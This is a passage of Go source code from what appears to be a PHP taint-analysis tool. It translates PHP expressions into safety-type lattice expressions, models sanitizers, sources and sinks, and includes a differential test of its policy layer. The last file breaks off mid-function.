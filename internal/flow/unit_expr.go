package flow

import (
	"fmt"

	"webssari/internal/ai"
	"webssari/internal/ir"
	"webssari/internal/lattice"
	"webssari/internal/php/ast"
	"webssari/internal/prelude"
)

// trExpr translates an IR expression into a safety-type expression,
// emitting hoisted commands (nested assignments, unfolded calls, sink
// assertions) for its side effects in evaluation order.
func (b *ubuilder) trExpr(e ir.Expr) ai.Expr {
	bottom := ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	switch e := e.(type) {
	case nil:
		return bottom

	case *ir.Lit, *ir.Str:
		// Literals and constants carry the safest type (t_n = ⊥).
		return bottom

	case *ir.Var:
		return ai.Var{Name: b.resolveVar(e.Name)}

	case *ir.VarVar:
		// A variable variable could read any variable; its type is
		// conservatively ⊤ (§: documented approximation).
		b.trExpr(e.Inner)
		b.warnf(e.Pos(), "variable variable read approximated as ⊤")
		return ai.Const{Type: b.lat.Top(), Lat: b.lat, Label: "$$"}

	case *ir.Index:
		if name, ok := globalsIndexIR(e); ok {
			return ai.Var{Name: name}
		}
		b.trExpr(e.Key)
		return b.trExpr(e.Arr)

	case *ir.Prop:
		// Object properties are folded into the object variable's type.
		return b.trExpr(e.Obj)

	case *ir.Interp:
		parts := make([]ai.Expr, 0, len(e.Parts))
		for _, part := range e.Parts {
			parts = append(parts, b.trExpr(part))
		}
		return b.joinOf(parts)

	case *ir.Array:
		parts := make([]ai.Expr, 0, len(e.Items))
		for _, it := range e.Items {
			if it.Key != nil {
				b.trExpr(it.Key)
			}
			parts = append(parts, b.trExpr(it.Val))
		}
		return b.joinOf(parts)

	case *ir.Cast:
		inner := b.trExpr(e.X)
		if e.Sanitizing() {
			// Numeric/boolean casts cannot carry string payloads: the
			// common "(int)$_GET['id']" idiom is a sanitizer.
			return ai.Const{Type: b.lat.Bottom(), Lat: b.lat, Label: "(" + e.To + ")"}
		}
		return inner

	case *ir.Unary:
		return b.trExpr(e.X)

	case *ir.Concat:
		l := b.trExpr(e.L)
		r := b.trExpr(e.R)
		return b.joinOf([]ai.Expr{l, r})

	case *ir.Bin:
		l := b.trExpr(e.L)
		r := b.trExpr(e.R)
		return b.joinOf([]ai.Expr{l, r})

	case *ir.Assign:
		return b.trAssign(e)

	case *ir.Ternary:
		b.trExpr(e.Cond)
		var parts []ai.Expr
		if e.Then != nil {
			parts = append(parts, b.trExpr(e.Then))
		} else {
			// Short form cond ?: else yields the condition's value.
			parts = append(parts, b.trExpr(e.Cond))
		}
		parts = append(parts, b.trExpr(e.Else))
		return b.joinOf(parts)

	case *ir.Call:
		return b.trCall(e)

	case *ir.MethodCall:
		return b.trMethodCall(e)

	case *ir.StaticCall:
		if fd, ok := b.lookupMethod(e.Class, e.Name); ok {
			args, argIRs := b.trArgs(e.Args)
			return b.inlineCall(fd, e.Class+"::"+e.Name, args, argIRs, nil, e)
		}
		return b.trNamedCall(e.Class+"::"+e.Name, e.Name, e.Args, e)

	case *ir.New:
		// Constructors are not unfolded; the object's type joins the
		// constructor arguments (data stored in the object stays visible).
		args, _ := b.trArgs(e.Args)
		return b.joinOf(args)

	case *ir.Include:
		return b.handleInclude(e)

	case *ir.Isset:
		// isset does not read values, only existence: boolean result.
		return bottom

	case *ir.Empty:
		return bottom

	case *ir.List:
		// Bare list() outside an assignment has no effect.
		return bottom

	case *ir.Exit:
		// exit/die in expression position (e.g. "... or die(...)"): the
		// argument is emitted to the client, so the sink assertion applies,
		// but execution only conditionally stops — conservatively treated
		// as continuing (over-approximation keeps later errors visible).
		b.trExitExpr(e)
		return bottom

	case *ir.Closure:
		// A closure value used without being bound to a variable ($arr[] =
		// function ..., array_map(function ..., $a), ...): the function
		// value itself carries no taint. Its body only matters when a bound
		// variable is later invoked (see trCall / closureBind).
		return ai.Const{Type: b.lat.Bottom(), Lat: b.lat, Label: "closure"}

	default:
		b.warnf(e.Pos(), "unhandled expression %s approximated as ⊥", legacyTypeName(e))
		return bottom
	}
}

// sanitizerType resolves a sanitizer call's result type, letting the
// active policy refine it by the constant arguments present at the call
// site (htmlspecialchars($x, ENT_QUOTES) is stronger than the bare
// call). Without a policy the prelude's declared type stands.
func (b *ubuilder) sanitizerType(san prelude.Sanitizer, argIRs []ir.Expr) lattice.Elem {
	if b.policy == nil {
		return san.Type
	}
	var consts []string
	for _, a := range argIRs {
		if lit, ok := a.(*ir.Lit); ok && lit.Kind == ir.LitConst {
			consts = append(consts, lit.Text)
		}
	}
	if t, ok := b.policy.SanitizerType(san.Name, consts); ok {
		return t
	}
	return san.Type
}

// joinOf folds expression parts with ⊔, treating the empty set as ⊥.
func (b *ubuilder) joinOf(parts []ai.Expr) ai.Expr {
	j := ai.NewJoin(parts...)
	if j == nil {
		return ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	}
	return j
}

// globalsIndexIR recognizes $GLOBALS['name'] and returns the global name.
func globalsIndexIR(e *ir.Index) (string, bool) {
	v, ok := e.Arr.(*ir.Var)
	if !ok || v.Name != "GLOBALS" {
		return "", false
	}
	key, ok := e.Key.(*ir.Str)
	if !ok {
		return "", false
	}
	return key.Value, true
}

// trExitExpr emits the sink assertion for exit/die arguments.
func (b *ubuilder) trExitExpr(e *ir.Exit) {
	if e.Arg == nil {
		return
	}
	arg := b.trExpr(e.Arg)
	if sink, ok := b.pre.SinkFor("die"); ok {
		b.emit(&ai.Assert{
			Fn:    sink.Name,
			Args:  []ai.Arg{{Expr: arg, ArgPos: 1, Pos: e.Arg.Pos(), End: e.Arg.End()}},
			Bound: sink.Bound,
			Site:  b.site(e),
		})
	}
}

// rootVar resolves the variable that ultimately receives a write through an
// lvalue expression ($a, $a['k'], $a['k'][0], $o->p, $GLOBALS['g']).
func (b *ubuilder) rootVar(e ir.Expr) (name string, exact bool, ok bool) {
	switch e := e.(type) {
	case *ir.Var:
		return b.resolveVar(e.Name), true, true
	case *ir.Index:
		if name, isGlobals := globalsIndexIR(e); isGlobals {
			return name, true, true
		}
		if e.Key != nil {
			b.trExpr(e.Key)
		}
		name, _, ok := b.rootVar(e.Arr)
		// Writing one element is a weak update of the whole array.
		return name, false, ok
	case *ir.Prop:
		name, _, ok := b.rootVar(e.Obj)
		return name, false, ok
	default:
		return "", false, false
	}
}

// pureRoot resolves an lvalue's root variable without evaluating index
// keys for side effects (used where the expression was already evaluated).
func (b *ubuilder) pureRoot(e ir.Expr) (string, bool) {
	switch e := e.(type) {
	case *ir.Var:
		return b.resolveVar(e.Name), true
	case *ir.Index:
		if name, ok := globalsIndexIR(e); ok {
			return name, true
		}
		return b.pureRoot(e.Arr)
	case *ir.Prop:
		return b.pureRoot(e.Obj)
	default:
		return "", false
	}
}

// srcRootNameIR returns the source-level (unprefixed) name of the variable
// an lvalue ultimately writes.
func srcRootNameIR(e ir.Expr) string {
	switch e := e.(type) {
	case *ir.Var:
		return e.Name
	case *ir.Index:
		if name, ok := globalsIndexIR(e); ok {
			return name
		}
		return srcRootNameIR(e.Arr)
	case *ir.Prop:
		return srcRootNameIR(e.Obj)
	default:
		return ""
	}
}

// trAssign lowers an assignment expression and returns the assigned
// value's type expression.
func (b *ubuilder) trAssign(e *ir.Assign) ai.Expr {
	// list($a, $b) = rhs distributes the right-hand side's type.
	if lst, ok := e.LHS.(*ir.List); ok {
		rhs := b.trExpr(e.RHS)
		for _, tgt := range lst.Targets {
			if tgt != nil {
				b.assignTo(tgt, rhs, e.RHS, e)
			}
		}
		return rhs
	}

	rhs := b.trExpr(e.RHS)
	if e.Op != "=" {
		// Compound assignment ($x .= e and friends) joins old and new.
		if name, _, ok := b.rootVar(e.LHS); ok {
			rhs = ai.NewJoin(ai.Var{Name: name}, rhs)
		}
	}
	b.assignTo(e.LHS, rhs, e.RHS, e)

	// $f = function (...) {...} binds the closure body to $f for later
	// direct invocation; emit() dropped any previous binding of the name.
	if cl, isClosure := e.RHS.(*ir.Closure); isClosure && e.Op == "=" {
		if v, isVar := e.LHS.(*ir.Var); isVar {
			b.closureBind[b.resolveVar(v.Name)] = cl.Fn
		}
	}
	return rhs
}

// assignTo emits the type assignment for a write of rhs through lvalue.
// rhsNode, when non-nil, is the source expression whose span a runtime
// guard can wrap to sanitize the assignment.
func (b *ubuilder) assignTo(lvalue ir.Expr, rhs ai.Expr, rhsNode ir.Expr, site ir.Node) {
	name, exact, ok := b.rootVar(lvalue)
	if !ok {
		if vv, isVV := lvalue.(*ir.VarVar); isVV {
			b.trExpr(vv.Inner)
			b.warnf(lvalue.Pos(), "write through variable variable ignored")
			return
		}
		b.warnf(lvalue.Pos(), "unsupported assignment target %s ignored", legacyTypeName(lvalue))
		return
	}
	if !exact {
		// Weak update: other elements/properties keep their taint.
		rhs = ai.NewJoin(ai.Var{Name: name}, rhs)
	}
	set := &ai.Set{Var: name, RHS: rhs, Site: b.site(site), SrcVar: srcRootNameIR(lvalue)}
	if rhsNode != nil {
		set.RHSPos = rhsNode.Pos()
		set.RHSEnd = rhsNode.End()
	} else {
		set.Synthetic = true
	}
	b.emit(set)
}

// trArgs translates call arguments, returning both the type expressions
// and the original IR nodes (needed for by-reference copy-back).
func (b *ubuilder) trArgs(args []ir.Expr) ([]ai.Expr, []ir.Expr) {
	out := make([]ai.Expr, len(args))
	for i, a := range args {
		out[i] = b.trExpr(a)
	}
	return out, args
}

// trCall lowers a function call.
func (b *ubuilder) trCall(e *ir.Call) ai.Expr {
	if e.Name == "" {
		// Variable function $f(...): unfold when $f is statically bound to
		// a closure, otherwise unresolvable.
		if v, isVar := e.Func.(*ir.Var); isVar {
			if fn, bound := b.closureBind[b.resolveVar(v.Name)]; bound {
				args, argIRs := b.trArgs(e.Args)
				return b.inlineCall(fn, fn.Name, args, argIRs, nil, e)
			}
		}
		if cl, isClosure := e.Func.(*ir.Closure); isClosure {
			// Immediately-invoked closure literal.
			args, argIRs := b.trArgs(e.Args)
			return b.inlineCall(cl.Fn, cl.Fn.Name, args, argIRs, nil, e)
		}
		b.trExpr(e.Func)
		args, _ := b.trArgs(e.Args)
		b.warnf(e.Pos(), "dynamic call target; result approximated as join of arguments")
		return b.joinOf(args)
	}
	if e.Name == "extract" {
		return b.handleExtract(e)
	}
	if fd, ok := b.funcs[e.Name]; ok {
		args, argIRs := b.trArgs(e.Args)
		return b.inlineCall(fd, e.Name, args, argIRs, nil, e)
	}
	return b.trNamedCall(e.Name, e.Name, e.Args, e)
}

// trNamedCall handles calls resolved only by name against the prelude:
// sanitizers, sources, sinks, and unknown builtins.
func (b *ubuilder) trNamedCall(display, name string, argIRs []ir.Expr, site ir.Node) ai.Expr {
	if san, ok := b.pre.SanitizerFor(name); ok {
		for _, a := range argIRs {
			b.trExpr(a)
		}
		return ai.Const{Type: b.sanitizerType(san, argIRs), Lat: b.lat, Label: san.Name}
	}
	if src, ok := b.pre.SourceFor(name); ok {
		for _, a := range argIRs {
			b.trExpr(a)
		}
		return ai.Const{Type: src.Type, Lat: b.lat, Label: src.Name}
	}
	if _, ok := b.pre.SinkFor(name); ok {
		b.emitSinkCall(name, argIRs, site)
		return ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	}
	// Unknown builtin: its result joins its arguments, the right default
	// for the string functions that dominate real code (trim, substr,
	// str_replace, sprintf, …) — taint flows through.
	args, _ := b.trArgs(argIRs)
	_ = display
	return b.joinOf(args)
}

// trMethodCall lowers $obj->name(args): unfold when the method body is
// statically resolvable, otherwise fall back to prelude/name resolution
// (so $db->query($sql) still hits the mysql_query-style sink if the
// prelude registers "query").
func (b *ubuilder) trMethodCall(e *ir.MethodCall) ai.Expr {
	objExpr := b.trExpr(e.Obj)
	if fd, ok := b.lookupMethod("", e.Name); ok {
		args, argIRs := b.trArgs(e.Args)
		thisRoot := ""
		if name, _, okRoot := b.rootVar(e.Obj); okRoot {
			thisRoot = name
		}
		result := b.inlineCall(fd, e.Name, args, argIRs, &methodReceiver{
			expr: objExpr, rootVar: thisRoot,
		}, e)
		return result
	}
	if _, isSink := b.pre.SinkFor(e.Name); isSink {
		b.emitSinkCall(e.Name, e.Args, e)
		return ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	}
	if san, ok := b.pre.SanitizerFor(e.Name); ok {
		b.trArgs(e.Args)
		return ai.Const{Type: b.sanitizerType(san, e.Args), Lat: b.lat, Label: san.Name}
	}
	if src, ok := b.pre.SourceFor(e.Name); ok {
		b.trArgs(e.Args)
		return ai.Const{Type: src.Type, Lat: b.lat, Label: src.Name}
	}
	args, _ := b.trArgs(e.Args)
	return b.joinOf(append(args, objExpr))
}

// inlineCall unfolds a user-defined function, method, or closure body at
// the call site, implementing the filter's requirement that F(p) "unfolds
// function calls". Locals are α-renamed with a per-instance prefix;
// by-reference parameters (and by-reference closure captures) copy back
// into the caller's variables.
func (b *ubuilder) inlineCall(
	fd *ir.Func,
	name string,
	args []ai.Expr,
	argIRs []ir.Expr,
	recv *methodReceiver,
	site ir.Node,
) ai.Expr {
	key := ast.LowerName(name)
	if b.inlineDepth[key] >= b.opts.MaxInlineDepth {
		b.warnf(site.Pos(), "recursion cutoff unfolding %s; result approximated as join of arguments", name)
		return b.joinOf(args)
	}
	b.inlineDepth[key]++
	defer func() { b.inlineDepth[key]-- }()

	b.instID++
	prefix := fmt.Sprintf("%s#%d$", key, b.instID)
	inner := &scope{
		prefix:  prefix,
		globals: make(map[string]bool),
		retVar:  prefix + "return",
	}

	bottom := ai.Const{Type: b.lat.Bottom(), Lat: b.lat}

	// Bind parameters in the caller's scope (defaults are evaluated in the
	// callee, but they are constant in practice).
	type refParam struct {
		local  string
		caller string
	}
	var refs []refParam
	paramVals := make([]ai.Expr, len(fd.Params))
	for i, p := range fd.Params {
		switch {
		case i < len(args):
			paramVals[i] = args[i]
		case p.Default != nil:
			paramVals[i] = b.trExpr(p.Default)
		default:
			paramVals[i] = bottom
		}
		if p.ByRef && i < len(argIRs) {
			if callerVar, _, ok := b.rootVar(argIRs[i]); ok {
				refs = append(refs, refParam{local: prefix + p.Name, caller: callerVar})
			}
		}
	}

	// Closure captures resolve against the defining (caller) scope before
	// the scope switch; by-value captures copy in, by-reference captures
	// also copy back.
	type useBind struct {
		local, outer string
		byRef        bool
	}
	var uses []useBind
	for _, u := range fd.Uses {
		uses = append(uses, useBind{
			local: prefix + u.Name, outer: b.resolveVar(u.Name), byRef: u.ByRef,
		})
	}

	outer := b.scope
	b.scope = inner
	b.emit(&ai.Set{Var: inner.retVar, RHS: bottom, Site: b.site(site), Synthetic: true})
	for i, p := range fd.Params {
		set := &ai.Set{Var: prefix + p.Name, RHS: paramVals[i], Site: b.site(site), Synthetic: true}
		if i < len(argIRs) {
			// The argument expression is a real patch point: wrapping it
			// sanitizes the parameter at the call site.
			set.SrcVar = srcRootNameIR(argIRs[i])
			set.RHSPos = argIRs[i].Pos()
			set.RHSEnd = argIRs[i].End()
			set.Synthetic = false
		}
		b.emit(set)
	}
	if recv != nil {
		b.emit(&ai.Set{Var: prefix + "this", RHS: recv.expr, Site: b.site(site), Synthetic: true})
	}
	for _, u := range uses {
		b.emit(&ai.Set{Var: u.local, RHS: ai.Var{Name: u.outer}, Site: b.site(site), Synthetic: true})
	}
	for _, st := range fd.Body {
		b.buildInstr(st)
	}
	b.scope = outer

	// Copy-back for by-reference parameters, by-reference captures, and the
	// method receiver (weak updates: the callee may or may not have written).
	for _, r := range refs {
		b.emit(&ai.Set{
			Var:       r.caller,
			RHS:       ai.NewJoin(ai.Var{Name: r.caller}, ai.Var{Name: r.local}),
			Site:      b.site(site),
			Synthetic: true,
		})
	}
	for _, u := range uses {
		if !u.byRef {
			continue
		}
		b.emit(&ai.Set{
			Var:       u.outer,
			RHS:       ai.NewJoin(ai.Var{Name: u.outer}, ai.Var{Name: u.local}),
			Site:      b.site(site),
			Synthetic: true,
		})
	}
	if recv != nil && recv.rootVar != "" {
		b.emit(&ai.Set{
			Var:       recv.rootVar,
			RHS:       ai.NewJoin(ai.Var{Name: recv.rootVar}, ai.Var{Name: prefix + "this"}),
			Site:      b.site(site),
			Synthetic: true,
		})
	}
	return ai.Var{Name: inner.retVar}
}

// handleExtract models PHP's extract($arr), which creates one variable per
// array key. The statically unknowable key set is over-approximated by the
// unit's read-but-never-assigned variable names: exactly the variables
// whose only possible origin is an extract (or similar) call. Each receives
// the array's type — reproducing the paper's PHP Support Tickets example,
// where extract($row) hands tainted database fields to an echo.
func (b *ubuilder) handleExtract(e *ir.Call) ai.Expr {
	bottom := ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	if len(e.Args) == 0 {
		return bottom
	}
	subj := b.trExpr(e.Args[0])
	for _, a := range e.Args[1:] {
		b.trExpr(a)
	}
	for _, name := range b.extractTargets {
		b.emit(&ai.Set{
			Var:    b.resolveVar(name),
			RHS:    subj,
			Site:   b.site(e),
			SrcVar: name,
			RHSPos: e.Args[0].Pos(),
			RHSEnd: e.Args[0].End(),
		})
	}
	return bottom
}
