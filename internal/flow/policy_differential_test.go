package flow

// Differential tests for the policy subsystem's compatibility guarantee:
// the default policy wraps the seed prelude without re-declaring it, so
// building under Options{Policy: policy.Default()} must produce an
// abstract interpretation byte-identical to the bare default prelude —
// across the whole differential corpus and the bundled examples. This is
// the invariant that lets every policy-free run keep its exact seed
// behavior while policies layer context rules on top.

import (
	"os"
	"path/filepath"
	"testing"

	"webssari/internal/ai"
	"webssari/internal/php/parser"
	"webssari/internal/policy"
	"webssari/internal/prelude"
)

func buildIR(t *testing.T, name string, src []byte, opts Options) *ai.Program {
	t.Helper()
	res := parser.Parse(name, src)
	prog, err := Build(res.File, opts)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	return prog
}

func TestDefaultPolicyByteIdenticalCorpus(t *testing.T) {
	for _, src := range differentialSources {
		src := src
		t.Run(src[:min(len(src), 40)], func(t *testing.T) {
			bare := buildIR(t, "diff.php", []byte(src), Options{Prelude: prelude.Default()})
			pol := buildIR(t, "diff.php", []byte(src), Options{Policy: policy.Default()})
			compareAI(t, bare, pol)
			if pol.Policy != policy.DefaultName {
				t.Errorf("Policy label = %q, want %q", pol.Policy, policy.DefaultName)
			}
		})
	}
}

func TestDefaultPolicyByteIdenticalExamples(t *testing.T) {
	dir := filepath.Join("..", "..", "examples", "php")
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	loader := func(path string) ([]byte, error) { return os.ReadFile(path) }
	for _, e := range entries {
		if e.IsDir() || filepath.Ext(e.Name()) != ".php" {
			continue
		}
		name := e.Name()
		t.Run(name, func(t *testing.T) {
			src, err := os.ReadFile(filepath.Join(dir, name))
			if err != nil {
				t.Fatal(err)
			}
			bare := buildIR(t, name, src, Options{Prelude: prelude.Default(), Dir: dir, Loader: loader})
			pol := buildIR(t, name, src, Options{Policy: policy.Default(), Dir: dir, Loader: loader})
			compareAI(t, bare, pol)
		})
	}
}
