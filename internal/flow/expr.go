package flow

import (
	"fmt"

	"webssari/internal/ai"
	"webssari/internal/php/ast"
)

// trExpr translates a PHP expression into a safety-type expression,
// emitting hoisted commands (nested assignments, unfolded calls, sink
// assertions) for its side effects in evaluation order.
func (b *builder) trExpr(e ast.Expr) ai.Expr {
	bottom := ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	switch e := e.(type) {
	case nil:
		return bottom

	case *ast.IntLit, *ast.FloatLit, *ast.StringLit, *ast.BoolLit, *ast.NullLit, *ast.ConstFetch:
		// Literals and constants carry the safest type (t_n = ⊥).
		return bottom

	case *ast.Var:
		return ai.Var{Name: b.resolveVar(e.Name)}

	case *ast.VarVar:
		// A variable variable could read any variable; its type is
		// conservatively ⊤ (§: documented approximation).
		b.trExpr(e.Inner)
		b.warnf(e.Pos(), "variable variable read approximated as ⊤")
		return ai.Const{Type: b.lat.Top(), Lat: b.lat, Label: "$$"}

	case *ast.Index:
		if name, ok := globalsIndex(e); ok {
			return ai.Var{Name: name}
		}
		b.trExpr(e.Key)
		return b.trExpr(e.Arr)

	case *ast.Prop:
		// Object properties are folded into the object variable's type.
		return b.trExpr(e.Obj)

	case *ast.Interp:
		parts := make([]ai.Expr, 0, len(e.Parts))
		for _, part := range e.Parts {
			parts = append(parts, b.trExpr(part))
		}
		return b.joinOf(parts)

	case *ast.ArrayLit:
		parts := make([]ai.Expr, 0, len(e.Items))
		for _, it := range e.Items {
			if it.Key != nil {
				b.trExpr(it.Key)
			}
			parts = append(parts, b.trExpr(it.Val))
		}
		return b.joinOf(parts)

	case *ast.Cast:
		inner := b.trExpr(e.X)
		if e.Sanitizing() {
			// Numeric/boolean casts cannot carry string payloads: the
			// common "(int)$_GET['id']" idiom is a sanitizer.
			return ai.Const{Type: b.lat.Bottom(), Lat: b.lat, Label: "(" + e.To + ")"}
		}
		return inner

	case *ast.Unary:
		return b.trExpr(e.X)

	case *ast.Binary:
		l := b.trExpr(e.L)
		r := b.trExpr(e.R)
		return b.joinOf([]ai.Expr{l, r})

	case *ast.Assign:
		return b.trAssign(e)

	case *ast.Ternary:
		b.trExpr(e.Cond)
		var parts []ai.Expr
		if e.Then != nil {
			parts = append(parts, b.trExpr(e.Then))
		} else {
			// Short form cond ?: else yields the condition's value.
			parts = append(parts, b.trExpr(e.Cond))
		}
		parts = append(parts, b.trExpr(e.Else))
		return b.joinOf(parts)

	case *ast.Call:
		return b.trCall(e)

	case *ast.MethodCall:
		return b.trMethodCall(e)

	case *ast.StaticCall:
		if fd, ok := b.lookupMethod(e.Class, e.Name); ok {
			args, argASTs := b.trArgs(e.Args)
			return b.inlineCall(fd, e.Class+"::"+e.Name, args, argASTs, nil, e)
		}
		return b.trNamedCall(e.Class+"::"+e.Name, e.Name, e.Args, e)

	case *ast.New:
		// Constructors are not unfolded; the object's type joins the
		// constructor arguments (data stored in the object stays visible).
		args, _ := b.trArgs(e.Args)
		return b.joinOf(args)

	case *ast.IncludeExpr:
		return b.handleInclude(e)

	case *ast.IssetExpr:
		// isset does not read values, only existence: boolean result.
		return bottom

	case *ast.EmptyExpr:
		return bottom

	case *ast.ListExpr:
		// Bare list() outside an assignment has no effect.
		return bottom

	case *ast.ExitExpr:
		// exit/die in expression position (e.g. "... or die(...)"): the
		// argument is emitted to the client, so the sink assertion applies,
		// but execution only conditionally stops — conservatively treated
		// as continuing (over-approximation keeps later errors visible).
		b.trExitExpr(e)
		return bottom

	default:
		b.warnf(e.Pos(), "unhandled expression %T approximated as ⊥", e)
		return bottom
	}
}

// joinOf folds expression parts with ⊔, treating the empty set as ⊥.
func (b *builder) joinOf(parts []ai.Expr) ai.Expr {
	j := ai.NewJoin(parts...)
	if j == nil {
		return ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	}
	return j
}

// globalsIndex recognizes $GLOBALS['name'] and returns the global name.
func globalsIndex(e *ast.Index) (string, bool) {
	v, ok := e.Arr.(*ast.Var)
	if !ok || v.Name != "GLOBALS" {
		return "", false
	}
	key, ok := e.Key.(*ast.StringLit)
	if !ok {
		return "", false
	}
	return key.Value, true
}

// trExitExpr emits the sink assertion for exit/die arguments.
func (b *builder) trExitExpr(e *ast.ExitExpr) {
	if e.Arg == nil {
		return
	}
	arg := b.trExpr(e.Arg)
	if sink, ok := b.pre.SinkFor("die"); ok {
		b.emit(&ai.Assert{
			Fn:    sink.Name,
			Args:  []ai.Arg{{Expr: arg, ArgPos: 1, Pos: e.Arg.Pos(), End: e.Arg.End()}},
			Bound: sink.Bound,
			Site:  b.site(e),
		})
	}
}

// rootVar resolves the variable that ultimately receives a write through an
// lvalue expression ($a, $a['k'], $a['k'][0], $o->p, $GLOBALS['g']).
func (b *builder) rootVar(e ast.Expr) (name string, exact bool, ok bool) {
	switch e := e.(type) {
	case *ast.Var:
		return b.resolveVar(e.Name), true, true
	case *ast.Index:
		if name, isGlobals := globalsIndex(e); isGlobals {
			return name, true, true
		}
		if e.Key != nil {
			b.trExpr(e.Key)
		}
		name, _, ok := b.rootVar(e.Arr)
		// Writing one element is a weak update of the whole array.
		return name, false, ok
	case *ast.Prop:
		name, _, ok := b.rootVar(e.Obj)
		return name, false, ok
	default:
		return "", false, false
	}
}

// srcRootName returns the source-level (unprefixed) name of the variable
// an lvalue ultimately writes.
func srcRootName(e ast.Expr) string {
	switch e := e.(type) {
	case *ast.Var:
		return e.Name
	case *ast.Index:
		if name, ok := globalsIndex(e); ok {
			return name
		}
		return srcRootName(e.Arr)
	case *ast.Prop:
		return srcRootName(e.Obj)
	default:
		return ""
	}
}

// trAssign lowers an assignment expression and returns the assigned
// value's type expression.
func (b *builder) trAssign(e *ast.Assign) ai.Expr {
	// list($a, $b) = rhs distributes the right-hand side's type.
	if lst, ok := e.LHS.(*ast.ListExpr); ok {
		rhs := b.trExpr(e.RHS)
		for _, tgt := range lst.Targets {
			if tgt != nil {
				b.assignTo(tgt, rhs, e.RHS, e)
			}
		}
		return rhs
	}

	rhs := b.trExpr(e.RHS)
	if e.Op.String() != "=" {
		// Compound assignment ($x .= e and friends) joins old and new.
		if name, _, ok := b.rootVar(e.LHS); ok {
			rhs = ai.NewJoin(ai.Var{Name: name}, rhs)
		}
	}
	b.assignTo(e.LHS, rhs, e.RHS, e)
	return rhs
}

// assignTo emits the type assignment for a write of rhs through lvalue.
// rhsNode, when non-nil, is the source expression whose span a runtime
// guard can wrap to sanitize the assignment.
func (b *builder) assignTo(lvalue ast.Expr, rhs ai.Expr, rhsNode ast.Expr, site ast.Node) {
	name, exact, ok := b.rootVar(lvalue)
	if !ok {
		if vv, isVV := lvalue.(*ast.VarVar); isVV {
			b.trExpr(vv.Inner)
			b.warnf(lvalue.Pos(), "write through variable variable ignored")
			return
		}
		b.warnf(lvalue.Pos(), "unsupported assignment target %T ignored", lvalue)
		return
	}
	if !exact {
		// Weak update: other elements/properties keep their taint.
		rhs = ai.NewJoin(ai.Var{Name: name}, rhs)
	}
	set := &ai.Set{Var: name, RHS: rhs, Site: b.site(site), SrcVar: srcRootName(lvalue)}
	if rhsNode != nil {
		set.RHSPos = rhsNode.Pos()
		set.RHSEnd = rhsNode.End()
	} else {
		set.Synthetic = true
	}
	b.emit(set)
}

// trArgs translates call arguments, returning both the type expressions
// and the original ASTs (needed for by-reference copy-back).
func (b *builder) trArgs(args []ast.Expr) ([]ai.Expr, []ast.Expr) {
	out := make([]ai.Expr, len(args))
	for i, a := range args {
		out[i] = b.trExpr(a)
	}
	return out, args
}

// trCall lowers a function call.
func (b *builder) trCall(e *ast.Call) ai.Expr {
	name := e.FuncName()
	if name == "" {
		// Variable function $f(...): unresolvable statically.
		b.trExpr(e.Func)
		args, _ := b.trArgs(e.Args)
		b.warnf(e.Pos(), "dynamic call target; result approximated as join of arguments")
		return b.joinOf(args)
	}
	if name == "extract" {
		return b.handleExtract(e)
	}
	if fd, ok := b.funcs[name]; ok {
		args, argASTs := b.trArgs(e.Args)
		return b.inlineCall(fd, name, args, argASTs, nil, e)
	}
	return b.trNamedCall(name, name, e.Args, e)
}

// trNamedCall handles calls resolved only by name against the prelude:
// sanitizers, sources, sinks, and unknown builtins.
func (b *builder) trNamedCall(display, name string, argASTs []ast.Expr, site ast.Node) ai.Expr {
	if san, ok := b.pre.SanitizerFor(name); ok {
		for _, a := range argASTs {
			b.trExpr(a)
		}
		return ai.Const{Type: san.Type, Lat: b.lat, Label: san.Name}
	}
	if src, ok := b.pre.SourceFor(name); ok {
		for _, a := range argASTs {
			b.trExpr(a)
		}
		return ai.Const{Type: src.Type, Lat: b.lat, Label: src.Name}
	}
	if _, ok := b.pre.SinkFor(name); ok {
		b.emitSinkCall(name, argASTs, site)
		return ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	}
	// Unknown builtin: its result joins its arguments, the right default
	// for the string functions that dominate real code (trim, substr,
	// str_replace, sprintf, …) — taint flows through.
	args, _ := b.trArgs(argASTs)
	_ = display
	return b.joinOf(args)
}

// trMethodCall lowers $obj->name(args): unfold when the method body is
// statically resolvable, otherwise fall back to prelude/name resolution
// (so $db->query($sql) still hits the mysql_query-style sink if the
// prelude registers "query").
func (b *builder) trMethodCall(e *ast.MethodCall) ai.Expr {
	objExpr := b.trExpr(e.Obj)
	if fd, ok := b.lookupMethod("", e.Name); ok {
		args, argASTs := b.trArgs(e.Args)
		thisRoot := ""
		if name, _, okRoot := b.rootVar(e.Obj); okRoot {
			thisRoot = name
		}
		result := b.inlineCall(fd, e.Name, args, argASTs, &methodReceiver{
			expr: objExpr, rootVar: thisRoot,
		}, e)
		return result
	}
	if _, isSink := b.pre.SinkFor(e.Name); isSink {
		b.emitSinkCall(e.Name, e.Args, e)
		return ai.Const{Type: b.lat.Bottom(), Lat: b.lat}
	}
	if san, ok := b.pre.SanitizerFor(e.Name); ok {
		b.trArgs(e.Args)
		return ai.Const{Type: san.Type, Lat: b.lat, Label: san.Name}
	}
	if src, ok := b.pre.SourceFor(e.Name); ok {
		b.trArgs(e.Args)
		return ai.Const{Type: src.Type, Lat: b.lat, Label: src.Name}
	}
	args, _ := b.trArgs(e.Args)
	return b.joinOf(append(args, objExpr))
}

type methodReceiver struct {
	expr    ai.Expr
	rootVar string
}

// inlineCall unfolds a user-defined function body at the call site,
// implementing the filter's requirement that F(p) "unfolds function calls".
// Locals are α-renamed with a per-instance prefix; by-reference parameters
// copy back into the caller's variables.
func (b *builder) inlineCall(
	fd *ast.FunctionDecl,
	name string,
	args []ai.Expr,
	argASTs []ast.Expr,
	recv *methodReceiver,
	site ast.Node,
) ai.Expr {
	key := ast.LowerName(name)
	if b.inlineDepth[key] >= b.opts.MaxInlineDepth {
		b.warnf(site.Pos(), "recursion cutoff unfolding %s; result approximated as join of arguments", name)
		return b.joinOf(args)
	}
	b.inlineDepth[key]++
	defer func() { b.inlineDepth[key]-- }()

	b.instID++
	prefix := fmt.Sprintf("%s#%d$", key, b.instID)
	inner := &scope{
		prefix:  prefix,
